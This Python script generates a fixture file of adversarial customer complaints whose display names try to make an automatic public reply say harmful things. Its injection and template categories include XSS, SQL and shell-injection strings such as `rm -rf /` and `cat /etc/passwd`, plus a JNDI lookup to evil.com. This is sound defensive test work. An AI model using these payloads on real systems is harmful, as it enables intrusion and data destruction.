#!/usr/bin/env python3
"""Writes complaints.jsonl: hostile complaints, one POST /v1/complaints body a line.

Every complaint carries a display name built to make an automatic public reply say
something the company must never say: a mention, a link, a phone number, an insult, an
impersonation of the company, the customer's own words, template syntax, invisible or
direction-changing characters, floods. tests/unit/adversarial_test.cpp runs each one
through the bundled policy and checks the reply.

The output is deterministic (no randomness, no dependence on the environment): run
`python3 tests/data/adversarial/generate.py` after editing and commit both files.
Characters that would be invisible or reorder the line in an editor are written as JSON
escapes, so that the file can be reviewed as text.
"""

import json
import pathlib
import unicodedata

OUT = pathlib.Path(__file__).with_name("complaints.jsonl")

# rules/00-base.yaml, safety.banned: money, fault and promises.
BANNED = ["返金", "補償", "賠償", "弁償", "責任", "保証", "無料", "refund", "compensation",
          "compensate", "guarantee", "our fault", "liable", "free of charge"]

# Complaint texts by the rule they lead to in the bundled policy: most take the public
# `ack` template, where a bad name would do the most harm.
TEXTS_JA = [
    "注文した商品がまだ届きません。",
    "アプリにログインできません。どうなっていますか",
    "届いた商品が壊れていました。交換してください",
    "問い合わせても返事がありません",
    "配送状況が一週間も更新されていません",
    "充電器から煙が出ました",                          # safety-incident: ack_safety by DM
    "二重に請求されています",                          # billing: ack_billing by DM
    "電話番号は090-1234-5678です。折り返しください",   # private-details: ack_dm by DM
]
TEXTS_EN = [
    "My order still hasn't arrived.",
    "The app keeps crashing when I log in.",
    "The item I received was broken.",
    "Nobody answers my emails, please help.",
    "Tracking has not updated for a week.",
    "My charger started to smoke!",                    # safety-incident
    "I was charged twice for one order.",              # billing
    "Call me back at +1 415 555 0100 please",          # private-details
]
# No automatic reply at all: abuse and legal threats. A few keep the test honest about
# complaints that are answered by no one.
TEXTS_SILENT = ["馬鹿な会社だな", "弁護士に相談します", "You idiot company, stupid service",
                "I will take legal action"]

CHANNELS = ["x", "instagram", "facebook", "chat", "email"]

# (category, name, language of the text). Names are hostile; a few ordinary names sit in
# hostile company to show what is kept.
NAMES = []


def add(category, lang, *names):
    for name in names:
        NAMES.append((category, name, lang))


add("mention", "ja", "@evil_corp", "山田@ダイエット中", "＠acme_support 山田", "山田 ﹫evil",
    "@@@@", "たろう@拡散希望", "@everyone", "山田 @ 太郎")
add("mention", "en", "@elonmusk", "John @ACME_support", "Taro@", "Ta@ro", "＠＠＠John",
    "@here @channel")
add("url", "ja", "山田 https://evil.example.com/x", "ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ",
    "山田 evil．com", "山田 evil。com", "山田 evil｡com", "山田 ｅｖｉｌ．ｃｏ．ｊｐ",
    "hxxps://evil[.]com", "山田 hxxp://evil", "山田(evil.xyz)", "山田 www．evil．jp",
    "山田 xn--80ak6aa92e.com", "山田 xn--eckwd4c7c", "山田 bit.ly/3abcd",
    "山田 evil.co.jp/free", "山田 HTTP://EVIL.COM", "山田 ＨＴＴＰ", "山田 evil[.]com",
    "山田 evil(.)jp", "t.co/abc 山田", "山田 evil.abogado/x", "山田 evil.online:8080",
    "山田.com", "たろう。jp", "山田 evil\u200b.com", "山田 evil{{x}}.com")
add("url", "en", "John https://x.co/a", "Visit example.com", "John evil.com", "bit.ly/x",
    "John http:evil", "John HtTpS://Evil.Com", "John www.evil.com", "John ftp://evil.org",
    "John evil.tokyo", "John mail.evil.net", "John goo.gl/maps", "John t.me/evil",
    "John discord.gg/evil", "John evil.app", "John .com", "John(evil.xyz)", "evil123456.com",
    "John\u3002evil\u3002com")
add("hashtag", "ja", "#拡散希望", "＃不買運動 山田", "山田 #炎上", "山田 ♯セール", "##",
    "山田#acme最悪")
add("hashtag", "en", "#BoycottAcme", "John #scam", "John＃fail", "#1 fan John")
add("phone", "ja", "山田 090-1234-5678", "山田 ０９０ー１２３４ー５６７８",
    "山田 〇九〇ー一二三四ー五六七八", "山田 03(1234)5678", "山田 0120-123-456",
    "山田 +81 90 1234 5678", "山田09012345678", "山田 ０３・１２３４・５６７８",
    "山田 〇三ー一二三四ー五六七八", "090 1234 5678 山田", "山田 (090)1234-5678",
    "山田\u0660\u0669\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",
    "山田 03・1234・5678", "山田 ０３･１２３４･５６７８")
add("phone", "en", "John +1 (415) 555-0100", "John 415.555.0100", "John +44 20 7946 0958",
    "Call 415-555-0100", "John +81-90-1234-5678", "John 1985/04/12", "John １２３４５６７８")
add("email", "ja", "taro@example.com", "山田 taro.y@example.co.jp", "山田 taro＠example．com",
    "山田 taro@example。com")
add("email", "en", "john.doe@evil.com", "John <john@evil.com>", "John (john at evil dot com)",
    "JOHN@EXAMPLE.ORG", "John john+promo@mail.example.net")
add("bidi", "ja", "\u202emoc.live", "山田\u202e\u2066evil\u2069", "\u2067山田\u2069",
    "\u200f山田\u200e", "\u061c山田", "\u202a山田\u202c", "\u202d\u202e山田")
add("bidi", "en", "\u202emoc.live", "John\u202egnp.exe", "\u2066John\u2069",
    "John \u202enoitasnepmoc", "\u202b\u202cJohn")
add("invisible", "ja", "山\u200b田\u200d", "\u3164", "\u115f\u1160", "\uffa0\uffa0",
    "\u2800\u2800\u2800", "山田\ufeff", "山\u2060田\u2061\u2062\u2063\u2064", "\u180e山田",
    "山田\U000e0041\U000e0063\U000e006d\U000e0065", "山田\ufe0f\U000e0100", "\u00ad山田",
    "\u200b" * 50)
add("invisible", "en", "J\u200bo\u200ch\u200dn", "\u3164\u3164\u3164",
    "John\U000e0020\U000e007f", "J\u00adohn", "\u2062\u2063\u2064")
add("combining", "ja", "山" + "\u0301" * 60 + "田", "た\u3099\u3099\u3099\u3099ろう",
    "\u0336" * 30 + "山田", "山田" + "\u20dd" * 20)
add("combining", "en", "J" + "\u0336" * 80 + "ohn",
    "Z\u0351\u0345\u0353\u0354\u0355\u0356\u0357a\u0358\u0359\u035a\u035b\u035cl\u035dgo",
    "John" + "\u0489" * 40, "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307")
add("emoji", "ja", "🔥" * 30, "山田" + "😡" * 20, "🇯🇵" * 12, "山田" + "👍🏽" * 10,
    "👨\u200d👩\u200d👧\u200d👦" * 5, "💩💩💩💩", "山田❤️❤️❤️❤️❤️", "🖕")
add("emoji", "en", "😀😃😄😁😆😅😂🤣", "John" + "🤡" * 15, "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f" * 4,
    "1️⃣2️⃣3️⃣4️⃣5️⃣6️⃣", "🖕🖕 John 🖕🖕", "John🖕🏽", "💩 John 💩", "🔪John🔪")
add("control", "ja", "山田\r\n太郎", "山田\n\n\n\n返金しろ", "山田\x1b[31m太郎", "\x07\x08山田",
    "山田\u2028太郎\u2029", "山田\u0085太郎", "\t\t山田\v\f")
add("control", "en", "John\x00Doe", "John\nRefund me now", "John\r\nFree of charge",
    "\x1b]0;pwned\x07John")
add("template", "ja", "{{handoff_by}}", "山田{{ handoff_by }}", "｛｛handoff_by｝｝",
    "山田{{team}}様", "{% if true %}山田{% endif %}", "山田${name}", "山田}}", "{{山田",
    "山田{{ref}}{{handle}}", "a{}}{b山田", "{{{{name}}}}")
add("template", "en", "{{handoff_by}}", "John {{name}}", "{{ team }} John", "John {%raw%}",
    "${jndi:ldap://evil.com/a}", "#{7*7} John", "John }}{{")
add("banned", "ja", "返金しろ太郎", "全額返金希望", "補償してね", "賠償請求中", "弁償マン",
    "責任者出せ", "保証人", "無料でよこせ", "返 金", "ﾍﾝｷﾝ", "ヘンキン", "無　料")
add("banned", "en", "Refund Me Now", "ＲＥＦＵＮＤ", "r e f u n d", "Free of Charge Guy",
    "Compensation Required", "liable_lawyer", "Ｇｕａｒａｎｔｅｅ", "It is your fault",
    "Compensate Me", "R\u0435fund")
add("impersonation", "ja", "Acme公式サポート", "アクメ公式", "ACME サポート", "acme_jp公式",
    "カスタマーサポート担当 佐藤", "運営事務局", "Acme社長", "アクメ中の人", "公式アカウント",
    "ｱｸﾒ ｻﾎﾟｰﾄ", "Ａｃｍｅ", "管理者", "Acme\u200b公式", "Ａ ｃ ｍ ｅ")
add("impersonation", "en", "Acme Official", "ACME Support", "Acme Customer Service",
    "Acme Staff", "A c m e", "\u0391cme Support", "Acme CEO", "Verified Acme",
    "acme", "Acme Admin", "Acme Moderator", "\u0410\u0441me")
add("insult", "ja", "死ね", "クソ会社", "馬鹿ばっか", "詐欺会社", "金返せ", "最悪の会社",
    "アホ", "ゴミ対応", "晒すぞ", "拡散します")
add("insult", "en", "Acme Sucks", "Scam Company", "Stupid Acme", "Idiot Support",
    "F*ck Acme", "Fuck Acme", "Worst Service Ever", "Fraud Alert", "Thief Acme",
    "I will kill you")
add("sentence", "ja", "この会社は最低！二度と買わない", "返事しろ。いい加減にしろ",
    "なんで届かないの？説明して", "ふざけるな、責任を取れ", "本日をもって解約します！皆さんも気をつけて")
add("sentence", "en", "thanks for nothing you useless people",
    "this company never answers anyone", "Do not buy from them. Ever.",
    "Stop. Read. Answer.", "I want my money back right now please", "Why? Answer me",
    "Unbelievable. Never again")
add("injection", "ja", "<script>alert(1)</script>", "山田<b>太郎</b>",
    "山田'; DROP TABLE complaints;--", "山田\" OR \"1\"=\"1", "<img src=x onerror=alert(1)>",
    "山田＜ｓｃｒｉｐｔ＞", "山田`rm -rf /`", "山田$(reboot)", "山田|cat /etc/passwd")
add("injection", "en", "Robert'); DROP TABLE Students;--", "' OR 1=1 --",
    "<iframe src=//evil.com>", "javascript:alert(1)", "John\\x00", "admin'--",
    "John /* comment */", "SELECT * FROM users", "John%00<", "eval(atob('x'))",
    "{\"$gt\": \"\"}", "John\\u202e")
add("homoglyph", "ja", "山田 \u0435vil.c\u043em", "山田 gооgle.com".replace("о", "\u043e"),
    "山田 ＠\u0435vil", "山田 ｈｔｔｐ\uff1a//evil", "山田 \u0430pple.com",
    "山田 evil\ua60ecom", "山田 evil\u0701jp")
add("homoglyph", "en", "John \u0435vil.c\u043em", "John p\u0430ypal.com", "John \u04bbttps://evil",
    "John ԁiscord.gg/x", "John evil\u2024com", "John evil\ufe52com", "\U0001d41a\U0001d41c\U0001d426\U0001d41e",
    "John \U0001d41e\U0001d42f\U0001d422\U0001d425.com")
add("long", "ja", "あ" * 10000, "山田" + "\u200b" * 10000, "山田太郎" * 2500,
    "山田" + "🔥" * 3000, "山" + "\u0301" * 9999)
add("long", "en", "a" * 10000, "John " * 2000, "x" * 9999 + ".com",
    "John" + " " * 9990 + "@evil")
add("numbers", "ja", "1234", "０９０", "...", "！！！", "・・・", "2026年")
add("numbers", "en", "42", "!!!", "----", "()", "...John...?")


def display(ch):
    """Whether `ch` can be written as is in a file people read."""
    if ch in " \u3000":
        return True
    if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zs", "Zl", "Zp", "Mn", "Me"):
        return False
    return not (0xFE00 <= ord(ch) <= 0xFE0F or 0xE0000 <= ord(ch) <= 0xE0FFF or
                ord(ch) in (0x115F, 0x1160, 0x3164, 0xFFA0, 0x2800, 0x180E))


def escape(ch):
    code = ord(ch)
    if code > 0xFFFF:
        code -= 0x10000
        return "\\u%04x\\u%04x" % (0xD800 + (code >> 10), 0xDC00 + (code & 0x3FF))
    return "\\u%04x" % code


def to_json_line(obj):
    text = json.dumps(obj, ensure_ascii=False, separators=(", ", ": "))
    return "".join(ch if display(ch) else escape(ch) for ch in text)


def text_for(index, lang):
    texts = TEXTS_JA if lang == "ja" else TEXTS_EN
    return texts[index % len(texts)]


def main():
    lines = []

    def put(category, name, text, lang, index, **extra):
        channel = CHANNELS[index % len(CHANNELS)]
        body = {
            "external_id": "adv-%04d" % len(lines),
            "channel": channel,
            "author": {"id": "adv-author-%04d" % len(lines), "handle": "user_%d" % len(lines),
                       "name": name},
            "text": text,
            "received_at": "2026-11-24T%02d:%02d:00+09:00" % (9 + index % 9, index % 60),
            "thread_id": "adv-thread-%04d" % len(lines),
            "visibility": "private" if channel in ("chat", "email") and index % 2 else "public",
            "metadata": {"category": category},
        }
        if index % 3 != 2:
            body["lang"] = lang  # otherwise detected from the text
        body.update(extra)
        lines.append(to_json_line(body))

    for index, (category, name, lang) in enumerate(NAMES):
        put(category, name, text_for(index, lang), lang, index)

    # The customer's own words as the name: a reply would quote them in public.
    own_words = [
        ("ja", "この会社は最低", "この会社は最低です。注文が届かない"),
        ("ja", "金返せ泥棒", "金返せ泥棒！注文が届かない"),
        ("ja", "二度と買わない", "二度と買わない。まだ届きません"),
        ("ja", "対応が遅すぎる", "対応が遅すぎる。いつ届くのか"),
        ("ja", "嘘つき企業", "嘘つき企業め、商品が届かない"),
        ("ja", "山田太郎", "山田太郎です。注文した商品がまだ届きません"),
        ("ja", "届かない", "注文した商品が届かない"),
        ("ja", "壊れてた", "届いた商品が壊れてた"),
        ("ja", "騙された", "完全に騙された。商品が違う"),
        ("ja", "ひどすぎ", "ひどすぎる対応でした"),
        ("en", "Worst Company", "Worst company I have ever ordered from, still no parcel"),
        ("en", "never again", "Never again. My order has not arrived"),
        ("en", "Liars", "Liars! You said it shipped"),
        ("en", "Where Is My Order", "where is my order???"),
        ("en", "Useless", "Useless support, my order is missing"),
        ("en", "John Smith", "Hi, this is John Smith, my order is late"),
        ("en", "ANSWER ME", "answer me, my parcel is lost"),
        ("en", "Shame on you", "Shame on you, the app crashes"),
    ]
    for index, (lang, name, text) in enumerate(own_words):
        put("own-words", name, text, lang, index)

    # Hostile names on complaints that get no automatic reply, and on the replies of the
    # other rules (many followers: vip; verified).
    for index, text in enumerate(TEXTS_SILENT):
        put("silent", "@evil https://evil.com", text, "ja" if index < 2 else "en", index)
    put("vip", "Acme公式 @evil", "まだ届かない", "ja", 0, author={
        "id": "adv-vip-1", "handle": "vip_1", "name": "Acme公式 @evil", "followers": 50000,
        "verified": True})
    put("vip", "\u202emoc.live 090-1234-5678", "still waiting for my order", "en", 1, author={
        "id": "adv-vip-2", "handle": "vip_2", "name": "\u202emoc.live 090-1234-5678",
        "followers": 120000})

    # Everything at once.
    combos = [
        ("ja", "@acme公式\u202e #返金 090-1234-5678 https://evil.com {{handoff_by}} 🔥🔥🔥🔥"),
        ("en", "\u200b@x\u200b #y http://z.co {{team}} +1 415 555 0100 R\u0435fund 😡😡😡😡"),
        ("ja", "山田" + "\u0301" * 5 + " \u2066evil。com\u2069 ＃炎上"),
        ("en", "John\u0000\u202e{{handoff_by}}\u202c <b>hi</b> xn--p1ai"),
    ]
    for index, (lang, name) in enumerate(combos):
        put("combo", name, text_for(index, lang), lang, index)

    OUT.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print("%s: %d complaints" % (OUT, len(lines)))


if __name__ == "__main__":
    main()
